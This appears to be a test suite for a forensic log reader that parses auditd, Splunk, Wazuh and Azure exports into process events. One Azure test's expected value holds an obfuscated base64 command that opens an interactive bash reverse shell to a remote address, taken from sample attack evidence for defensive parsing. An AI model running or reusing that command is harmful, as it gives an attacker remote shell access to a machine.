import { describe, expect, test } from 'vitest';
import { KIND, OPERATION, PARENT_KIND } from '../../../src/evidence/batch.js';
import { csvRecordsOf } from '../../../src/evidence/csvRecords.js';
import { datedLine } from '../../../src/evidence/wrappedTime.js';
import { UNSET_ID } from '../../../src/model/index.js';
import { addsUp, memoryMember, memorySource, readAll } from './memory.js';
import { holdsMadeUnderDamage, holdsUnderDamage, sample, samplesOf, hasSamples } from './samples.js';

const read = async (text: string | Uint8Array, name = 'export.txt', options: Parameters<typeof readAll>[1] = {}) => {
  const result = await readAll([memorySource(name, text)], options);
  const [entry] = result.entries;
  expect(entry && addsUp(entry)).toBe(true);
  return { ...result, entry };
};

/** An exec and the fork before it, as auditd wrote them. */
const FORK = 'type=SYSCALL msg=audit(1700000000.100:4711): arch=c000003e syscall=56 success=yes exit=812 a0=1200011 a1=0 a2=0 a3=0 items=0 ppid=700 pid=811 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="fork"';
const EXEC = [
  'type=SYSCALL msg=audit(1700000000.130:4712): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=811 pid=812 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key="exec"',
  'type=EXECVE msg=audit(1700000000.130:4712): argc=3 a0="sh" a1="-c" a2=6964203B206964',
  'type=CWD msg=audit(1700000000.130:4712): cwd="/tmp"',
  'type=PROCTITLE msg=audit(1700000000.130:4712): proctitle="sh"',
];
const NEWEST_FIRST = [...EXEC].reverse().concat(FORK);
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const splunkCsv = (rows: readonly string[], host = 'web1'): string =>
  `"_time","_raw",host,source,sourcetype\n${rows.map((raw) => ['"2023-11-14T22:13:20.130+0000"', quoted(raw), host, '"/var/log/audit/audit.log"', 'linux:audit'].join(',')).join('\n')}\n`;
const splunkJson = (rows: readonly string[]): string =>
  rows.map((raw, offset) => JSON.stringify({ preview: false, offset, result: { _time: '2023-11-14T22:13:20.130+00:00', host: 'web1', source: '/var/log/audit/audit.log', _raw: raw } })).join('\n') + '\n';
const SYSLOG = ['Nov 14 23:13:20 web2 sshd[900]: Accepted publickey for bob from 203.0.113.9 port 4711 ssh2', 'Nov 14 23:13:21 web2 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id'];

async function csv(text: string, chunk = 1 << 20): Promise<readonly (readonly string[] | string)[]> {
  const found: (readonly string[] | string)[] = [];
  for await (const piece of csvRecordsOf(memoryMember('x.csv', text, { chunk }))) found.push(piece.kind === 'record' ? piece.cells : piece.what);
  return found;
}

describe('CSV records', () => {
  test('quotes, doubled quotes, line ends inside, CRLF, a byte order mark and blank lines', async () => {
    const text = '\ufeff"a",b\r\n"x ""y""\nz",2\r\n\r\n,\n"last",""';
    for (const chunk of [1, 2, 3, 1000]) expect(await csv(text, chunk)).toEqual([['a', 'b'], ['x "y"\nz', '2'], ['', ''], ['last', '']]);
  });

  test('a quote that nothing closes costs its own line only', async () => {
    const found = await csv('a,b\n"1,2\n3,4\n"5",6\n7,8\n');
    expect(found.filter((piece) => typeof piece === 'string')).toHaveLength(1);
    expect(found.filter((piece) => typeof piece !== 'string')).toEqual([['a', 'b'], ['3', '4'], ['5', '6'], ['7', '8']]);
  });

  test('a line of several MiB is one broken record, and the next is read', async () => {
    const found = await csv(`a,b\n${'x'.repeat(3 << 20)}\n1,2\n"${'y'.repeat(3 << 20)}\n3,4\n`, 1 << 16);
    expect(found).toEqual([['a', 'b'], expect.any(String), ['1', '2'], expect.any(String), ['3', '4']]);
  });

  test('a place is the place of the whole record', async () => {
    const text = 'a,b\n"1\n1",2\n3,4';
    const places: string[] = [];
    for await (const { offset, byteLength } of csvRecordsOf(memoryMember('x.csv', text))) places.push(text.slice(offset, offset + byteLength));
    expect(places).toEqual(['a,b\n', '"1\n1",2\n', '3,4']);
  });
});

describe('Splunk', () => {
  for (const [name, text, format] of [
    ['export.csv', splunkCsv(NEWEST_FIRST), 'splunk-csv'],
    ['export.json', splunkJson(NEWEST_FIRST), 'splunk-json'],
    ['results.json', JSON.stringify({ preview: false, init_offset: 0, messages: [], fields: [{ name: '_raw' }], results: NEWEST_FIRST.map((raw) => ({ _time: '1700000000.130', host: 'web1', _raw: raw })), highlighted: {} }), 'splunk-json'],
  ] as const) {
    test(`${name}: rows that come newest first and apart are the events of the log`, async () => {
      const { rows, entry } = await read(text, name);
      const log = await read([FORK, ...EXEC].map((line) => `node=web1 ${line}`).join('\n') + '\n', 'audit.log');
      const told = (list: readonly Readonly<Record<string, unknown>>[]): unknown[] =>
        list.map(({ offset: _offset, byteLength: _length, ...row }) => row).sort((a, b) => Number(a['serial']) - Number(b['serial']));
      expect(entry).toMatchObject({ format, host: 'web1', accounting: { understood: 5, notUnderstood: 0 } });
      expect(told(rows)).toEqual(told(log.rows));
      expect(rows.find((row) => row['kind'] === KIND.fork)).toMatchObject({ pid: 811, other: 812, parentKind: PARENT_KIND.atEvent });
      expect(rows.find((row) => row['kind'] === KIND.exec)).toMatchObject({ args: 'sh\0-c\0id ; id', cwd: '/tmp', ppid: 811 });
      expect(entry?.coverage.map(({ gap }) => gap)).not.toContain('records-lost');
    });
  }

  test('an observation lies where its rows lie', async () => {
    const text = splunkCsv(NEWEST_FIRST);
    const { rows } = await read(text, 'export.csv');
    const exec = rows.find((row) => row['kind'] === KIND.exec);
    const place = text.slice(Number(exec?.['offset']), Number(exec?.['offset']) + Number(exec?.['byteLength']));
    expect(place.split('\n').filter((line) => line !== '')).toHaveLength(4);
    expect(place).toContain('type=PROCTITLE');
    expect(place.endsWith('linux:audit\n')).toBe(true);
  });

  test('two hosts with the same event number are two', async () => {
    const { rows } = await read(splunkCsv([FORK]) + splunkCsv([FORK.replace('exit=812', 'exit=912')], 'db1').split('\n').slice(1).join('\n'), 'export.csv');
    expect(rows.map((row) => [row['host'], row['other']])).toEqual([['web1', 812], ['db1', 912]]);
  });

  test('pieces of a long EXECVE come together whatever order the search gave them', async () => {
    const pieces = [EXEC[0] ?? '', 'type=EXECVE msg=audit(1700000000.130:4712): argc=4 a0="sh" a1="one"', 'type=EXECVE msg=audit(1700000000.130:4712): a2="two" a3="three"'];
    for (const order of [[2, 1, 0], [1, 2, 0], [2, 0, 1]]) {
      const { rows } = await read(splunkCsv(order.map((at) => pieces[at] ?? '')), 'export.csv');
      expect(rows.map((row) => row['args'])).toEqual(['sh\0one\0two\0three']);
    }
  });

  test('syslog, JSON and sysmon XML inside are read by their own readers, beside audit records', async () => {
    const sysmon = '<Event><System><Provider Name="Linux-Sysmon" Guid="{x}"/><EventID>1</EventID><TimeCreated SystemTime="2023-11-14T22:13:20.500000000Z"/><Computer>web3</Computer></System><EventData><Data Name="UtcTime">2023-11-14 22:13:20.480</Data><Data Name="ProcessId">812</Data><Data Name="Image">/bin/sh</Data><Data Name="CommandLine">sh</Data><Data Name="User">bob</Data><Data Name="ParentProcessId">811</Data></EventData></Event>';
    const laurel = '{"ID":"1700000000.130:4712","NODE":"web4","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","exit":0,"ppid":811,"pid":812,"auid":1000,"uid":0,"ses":3,"comm":"sh","exe":"/usr/bin/dash"},"EXECVE":{"argc":1,"ARGV":["sh"]}}';
    const rows = [
      ['/var/log/audit/audit.log', FORK], ['/var/log/auth.log', SYSLOG[0]], ['/var/log/auth.log', SYSLOG[1]], ['sysmon', sysmon], ['laurel', laurel], ['x', 'no format knows this'], ['y', ''],
    ].map(([source = '', raw = '']) => `"1700000000.0",${quoted(raw)},${quoted(source)},${raw === FORK ? 'web1' : ''}`);
    const { entry, rows: seen } = await read(`_time,_raw,source,host\n${rows.join('\n')}\n`, 'export.csv');
    expect(entry?.accounting).toMatchObject({ records: 8, understood: 5, notNeeded: 2, notUnderstood: 1 });
    expect(seen.map((row) => [row['host'], row['kind'], row['pid']]).sort()).toEqual(
      [['web1', KIND.fork, 811], ['web2', KIND.authentication, 900], ['web2', KIND.session, -1], ['web3', KIND.exec, 812], ['web4', KIND.exec, 812]].sort(),
    );
    // 23:13 local is the 22:13 UTC of _time: the collector knew the host's zone, and the year.
    expect(seen.find((row) => row['kind'] === KIND.authentication)?.['time']).toBe(1_700_000_000_000_000);
  });

  test('a ps output in one event is a snapshot of its moment', async () => {
    const ps = 'UID PID PPID C STIME TTY TIME CMD\nroot 1 0 0 12:00 ? 00:00:01 /sbin/init\nroot 20 1 0 12:00 ? 00:00:01 cron';
    const { rows, entry } = await read(`_time,_raw,host,source\n"1700000000.0",${quoted(ps)},web1,ps\n"1700000060.0",${quoted(ps)},web1,ps\n`, 'export.csv');
    expect(rows.filter((row) => row['kind'] === KIND.seen).map((row) => [row['host'], row['pid'], row['time']])).toEqual([['web1', 1, 1.7e15], ['web1', 20, 1.7e15], ['web1', 1, 1.70000006e15], ['web1', 20, 1.70000006e15]]);
    expect(entry?.accounting.notUnderstood).toBe(0);
  });

  test('results without _raw, and searches without results, are said to be that', async () => {
    const { entry } = await read(`${splunkJson([FORK])}{"preview":false,"offset":1,"result":{"_time":"1","pid":"5"}}\n{"preview":false,"lastrow":true}\n`);
    expect(entry?.accounting).toMatchObject({ records: 3, understood: 1, notNeeded: 1, notUnderstood: 1 });
    expect(entry?.troubles[0]?.what).toContain('without _raw');
  });

  test('exports inside exports end somewhere', async () => {
    let inner = FORK;
    for (let depth = 0; depth < 8; depth++) inner = JSON.stringify({ result: { _raw: inner, _time: '1' } });
    const { entry } = await read(`${inner}\n`);
    expect(entry?.accounting).toMatchObject({ records: 1, understood: 0, notUnderstood: 1 });
  });

  holdsMadeUnderDamage('export.csv', splunkCsv([...NEWEST_FIRST, ...SYSLOG]), 'splunk-csv');
  holdsMadeUnderDamage('export.json', splunkJson([...NEWEST_FIRST, ...SYSLOG]), 'splunk-json');
});

test('the year of stamps is found in carried lines too, where the carrier states no time', async () => {
  const lines = ['Dec 31 23:13:20 web2 sshd[900]: Accepted publickey for bob from 203.0.113.9 port 4711 ssh2', 'Jan  1 00:13:20 web2 sshd[901]: Accepted publickey for bob from 203.0.113.9 port 4711 ssh2'];
  const { rows } = await read(`_raw,host\n${lines.map((line) => `"${line}",web2`).join('\n')}\n`, 'export.csv', { takenMicros: Date.parse('2024-01-02T00:00:00Z') * 1000 });
  expect(rows.map((row) => new Date(Number(row['time']) / 1000).getUTCFullYear())).toEqual([2023, 2024]);
});

test('a syslog stamp takes its year and zone from the moment that the carrier states', () => {
  const at = (iso: string): number => Date.parse(iso) * 1000;
  expect(datedLine('Dec 31 23:59:58 web1 cron[1]: x', at('2023-12-31T23:59:58Z'))).toBe('2023-12-31T23:59:58+00:00 web1 cron[1]: x');
  expect(datedLine('<13>Jan  1 00:59:58.25 web1 cron[1]: x', at('2023-12-31T23:59:58.25Z'))).toBe('<13>2024-01-01T00:59:58.250000+01:00 web1 cron[1]: x');
  expect(datedLine('Dec 31 23:59:58 web1 cron[1]: x', at('2024-01-01T00:06:40Z'))).toBe('2023-12-31T23:59:58 web1 cron[1]: x'); // received later: the year alone
  expect(datedLine('Feb 29 10:00:00 web1 cron[1]: x', at('2024-02-29T10:00:00Z'))).toBe('2024-02-29T10:00:00+00:00 web1 cron[1]: x');
  expect(datedLine('no stamp', at('2024-02-29T10:00:00Z'))).toBe('no stamp');
});

describe('Wazuh and shippers', () => {
  const alert = (line: string, extra: object = {}): string =>
    JSON.stringify({ timestamp: '2023-11-14T22:13:20.130+0000', rule: { level: 3 }, agent: { id: '001', name: 'web1' }, manager: { name: 'wazuh' }, full_log: line, location: '/var/log/x', ...extra });

  test('full_log holds the records of an event in one line, or a line of syslog', async () => {
    const { rows, entry } = await read(`${alert(EXEC.join(' '))}\n${alert(SYSLOG[0] ?? '')}\n${JSON.stringify({ timestamp: '2023-11-14T22:13:20+0000', agent: { name: 'w' }, data: { win: {} } })}\n`);
    expect(entry).toMatchObject({ format: 'wazuh', accounting: { records: 6, understood: 5, notUnderstood: 1 } });
    expect(rows.find((row) => row['kind'] === KIND.exec)).toMatchObject({ host: 'web1', pid: 812, args: 'sh\0-c\0id ; id' });
    expect(rows.find((row) => row['kind'] === KIND.authentication)).toMatchObject({ host: 'web2', pid: 900 });
  });

  test('Filebeat, Docker and a hit of a search carry the lines of a log', async () => {
    const beat = (line: string): string => JSON.stringify({ '@timestamp': '2023-11-14T22:13:20.130Z', message: line, host: { name: 'web1' }, log: { file: { path: '/var/log/audit/audit.log' } } });
    for (const text of [EXEC.map(beat).join('\n'), `[${EXEC.map((line) => `{"_source":${beat(line)}}`).join(',\n')}]`, EXEC.map((log) => JSON.stringify({ log: `${log}\n`, stream: 'stdout', time: '2023-11-14T22:13:20.130Z', host: 'web1' })).join('\n')]) {
      const { rows, entry } = await read(text);
      expect(entry).toMatchObject({ format: 'shipped-json', accounting: { records: 4, understood: 4 } });
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({ host: 'web1', kind: KIND.exec, args: 'sh\0-c\0id ; id' });
    }
  });

  test('JSON whose message no format knows stays unknown', async () => {
    expect((await read('{"message":"hello","level":"info"}\n')).entry?.format).toBe('unknown');
  });

  holdsMadeUnderDamage('alerts.json', [alert(EXEC.join(' ')), alert(SYSLOG[0] ?? ''), alert(FORK)].join('\n') + '\n', 'wazuh');
});

describe('Azure', () => {
  test.skipIf(!hasSamples)('AUOMS messages are the exec events of the host, failed ones apart (not run where ../shared/evidence is absent)', async () => {
    const { name, bytes } = sample(samplesOf('auditd-azure').find((path) => path.endsWith('.json')) ?? '');
    const { rows, entry } = await read(bytes, name);
    expect(entry).toMatchObject({ format: 'azure-syslog', host: 'UBUNTU5', accounting: { records: 50, understood: 50, notUnderstood: 0 } });
    const execs = rows.filter((row) => row['kind'] === KIND.exec);
    expect(execs).toHaveLength(27);
    expect(rows.filter((row) => row['operation'] === OPERATION['exec-failed'])).toHaveLength(23);
    const [first] = execs;
    expect(first).toMatchObject({ pid: 17790, ppid: 1340, parentKind: PARENT_KIND.atEvent, uid: 1001, ses: UNSET_ID, comm: 'bash', exe: '/bin/bash', cwd: '/', time: 1_652_292_621_990_000, serial: 84143 });
    expect(rows[0]).toMatchObject({ uid: 1001, user: 'tomcat' });
    expect(String(first?.['args'])).toBe('bash\0-c\0{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}');
    // Java made the shell, and the shell what it piped together (FORMATS 9).
    expect(execs.filter((row) => row['ppid'] === 17790).map((row) => row['pid'])).toEqual([17794, 17793]);
  });

  test.skipIf(!hasSamples)('lists of audit records in a CSV cell are audit events (not run where ../shared/evidence is absent)', async () => {
    const { name, bytes } = sample(samplesOf('auditd-azure').find((path) => path.endsWith('.csv')) ?? '');
    const { rows, entry } = await read(bytes, name);
    expect(entry).toMatchObject({ format: 'azure-syslog', host: 'MSTICAlertsLxVM2', accounting: { records: 511, understood: 510, notUnderstood: 0 } });
    expect(rows).toHaveLength(100);
    expect(rows[0]).toMatchObject({ kind: KIND.session, operation: OPERATION.closed, pid: 28056, exe: '/usr/bin/sudo' });
    expect(rows.find((row) => row['pid'] === 28066)).toMatchObject({ kind: KIND.exec, ppid: 22536, args: '/bin/sh\0-c\0iptables --version', cwd: '/var/lib/waagent/WALinuxAgent-2.2.36' });
  });

  test('other lines of the Syslog table are log lines, in JSON and as the portal exports CSV', async () => {
    const json = JSON.stringify({ TenantId: 't', TimeGenerated: '2023-11-14T22:13:21Z', EventTime: '2023-11-14T22:13:20Z', Computer: 'vm1', ProcessName: 'sshd', ProcessID: 900, SyslogMessage: 'Accepted publickey for bob from 203.0.113.9 port 4711 ssh2' });
    const table = 'TenantId,"TimeGenerated [UTC]","EventTime [UTC]",Computer,ProcessName,ProcessID,SyslogMessage\nt,"11/14/2023, 10:13:21.000 PM","11/14/2023, 10:13:20.000 PM",vm1,sshd,900,Accepted publickey for bob from 203.0.113.9 port 4711 ssh2\n';
    for (const text of [json, table]) {
      const { rows, entry } = await read(text);
      expect(entry?.format).toBe('azure-syslog');
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({ host: 'vm1', kind: KIND.authentication, operation: OPERATION.opened, user: 'bob', pid: 900, path: '203.0.113.9', time: 1_700_000_000_000_000 });
    }
  });

  test('a Syslog table with Sysmon events and lines of others has both', async () => {
    const event = '<Event><System><Provider Name="Linux-Sysmon" Guid="{x}"/><EventID>1</EventID><TimeCreated SystemTime="2023-11-14T22:13:20.500000000Z"/><Computer>vm1</Computer></System><EventData><Data Name="UtcTime">2023-11-14 22:13:20.480</Data><Data Name="ProcessId">812</Data><Data Name="Image">/bin/sh</Data><Data Name="CommandLine">sh</Data><Data Name="ParentProcessId">811</Data></EventData></Event>';
    const row = (message: string, program: string): string => JSON.stringify({ TenantId: 't', TimeGenerated: '2023-11-14T22:13:21Z', Computer: 'vm1', ProcessName: program, ProcessID: 900, SyslogMessage: message });
    const { rows, entry } = await read(`${[row(event, 'sysmon'), row('Accepted publickey for bob from 203.0.113.9 port 4711 ssh2', 'sshd'), row(event.replace('>812<', '>813<'), 'sysmon')].join('\n')}\n`);
    expect(entry).toMatchObject({ format: 'azure-syslog', accounting: { records: 3, understood: 3 } });
    expect(rows.map((each) => [each['kind'], each['pid']]).sort()).toEqual([[KIND.exec, 812], [KIND.exec, 813], [KIND.authentication, 900]]);
  });

  test('an AUOMS message in a syslog file is read, and its quoting is trusted only where the count agrees', async () => {
    const line = (argc: number): string => `Nov 14 22:13:20 vm1 auoms: type=AUOMS_EXECVE audit(1700000000.130:4712): auoms_version=2.5 arch=x86_64 syscall=execve syscall_r=59 success=yes exit=0 ppid=811 pid=812 auid=-1 ses=-1 comm="sh" exe="/bin/sh" cwd="/" argc=${argc} cmdline="sh -c "a b"" redactors= containerid=`;
    const args = async (argc: number): Promise<unknown> => (await read(`${line(argc)}\n`, 'syslog', { takenMicros: 1.7001e15 })).rows[0]?.['args'];
    expect(await args(3)).toBe('sh\0-c\0a b');
    expect(await args(9)).toBe('sh\0-c\0"a\0b"');
  });

  test.skipIf(!hasSamples)('connections without pids are log lines (not run where ../shared/evidence is absent)', async () => {
    const { name, bytes } = sample(samplesOf('azure-vmconnection')[0] ?? '');
    const { rows, entry } = await read(bytes, name);
    expect(entry).toMatchObject({ format: 'azure-vmconnection', host: 'UBUNTU5', accounting: { records: 5, understood: 5 } });
    expect(rows[3]).toMatchObject({ kind: KIND.log, pid: -1, comm: 'bash', path: '192.168.2.6', port: 443 });
    expect(entry?.coverage.map(({ gap }) => gap)).toContain('no-parents');
  });

  for (const path of samplesOf('auditd-azure')) holdsUnderDamage(path, 'azure-syslog', { runs: 15 });
  for (const path of samplesOf('azure-vmconnection')) holdsUnderDamage(path, 'azure-vmconnection');
});

describe('audit records in YAML', () => {
  test.skipIf(!hasSamples)('are the same events as the raw lines, and as what go-libaudit made of them (not run where ../shared/evidence is absent)', async () => {
    for (const path of samplesOf('auditd-yaml')) {
      const { name, bytes } = sample(path);
      const { rows, entry } = await read(bytes, name);
      const raw = new TextDecoder().decode(bytes).split('\n').map((line) => line.trim()).filter((line) => line.startsWith('type='));
      const log = await read(`${raw.join('\n')}\n`, 'audit.log');
      expect(entry).toMatchObject({ format: 'audit-yaml', accounting: { notUnderstood: 0, understood: log.entry?.accounting.understood } });
      const told = (list: readonly Readonly<Record<string, unknown>>[]): unknown[] => list.map(({ offset: _offset, byteLength: _length, host: _host, ...row }) => row);
      expect(told(rows)).toEqual(told(log.rows));
    }
  });

  test('a list of quoted records, and records behind a key', async () => {
    const { rows, entry } = await read(`---\nevents:\n  - '${FORK}'\n  exec: ${EXEC[0]}\n`, 'x.yaml');
    expect(entry).toMatchObject({ format: 'audit-yaml', accounting: { records: 4, understood: 2, notNeeded: 2 } });
    expect(rows.map((row) => [row['kind'], row['key']])).toEqual([[KIND.fork, 'fork'], [KIND.exec, 'exec']]);
  });

  for (const path of samplesOf('auditd-yaml')) holdsUnderDamage(path, 'audit-yaml', { runs: 8 });
});

describe('what others made of audit records', () => {
  test.skipIf(!hasSamples)('every golden file of go-libaudit is understood whole but for rule lists (not run where ../shared/evidence is absent)', async () => {
    for (const path of samplesOf('auditd-coalesced-json')) {
      const { name, bytes } = sample(path);
      const { entry } = await read(bytes, name);
      expect(entry).toMatchObject({ format: 'ecs', accounting: { notUnderstood: 0 } });
    }
  });

  test.skipIf(!hasSamples)('one run of apt-get that was cut into files, one event each, is seventeen logs of one event (not run where ../shared/evidence is absent)', async () => {
    for (const path of samplesOf('auditd-tree')) {
      const { name, bytes } = sample(path);
      const { entry, rows } = await read(bytes, name);
      expect(entry).toMatchObject({ format: 'auditd', accounting: { notUnderstood: 0, notNeeded: 0 } });
      expect(rows.map((row) => row['kind'])).toEqual([KIND.exec]);
    }
  });

  for (const path of samplesOf('auditd-coalesced-json')) holdsUnderDamage(path, 'ecs', { runs: 5 });
});

test('a signal to a group has all its targets, also where the call is told last', async () => {
  const kill = 'type=SYSCALL msg=audit(1700000000.200:4720): arch=c000003e syscall=62 success=yes exit=0 a0=fffffcd3 a1=f a2=0 a3=0 items=0 ppid=700 pid=811 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="kill"';
  const targets = [901, 902, 903].map((pid) => `type=OBJ_PID msg=audit(1700000000.200:4720): opid=${pid} oauid=-1 ouid=0 oses=-1 ocomm="sleep"`);
  for (const lines of [[kill, ...targets], [...targets, kill], [targets[0] ?? '', FORK, targets[1] ?? '', kill, targets[2] ?? '']]) {
    const { rows } = await read(`${lines.join('\n')}\n`, 'audit.log');
    expect(rows.filter((row) => row['kind'] === KIND.signal).map((row) => [row['pid'], row['other'], row['flags']]).sort()).toEqual([901, 902, 903].map((pid) => [811, pid, 15]));
    expect(rows.filter((row) => row['kind'] !== KIND.signal && row['kind'] !== KIND.fork)).toEqual([]);
  }
});
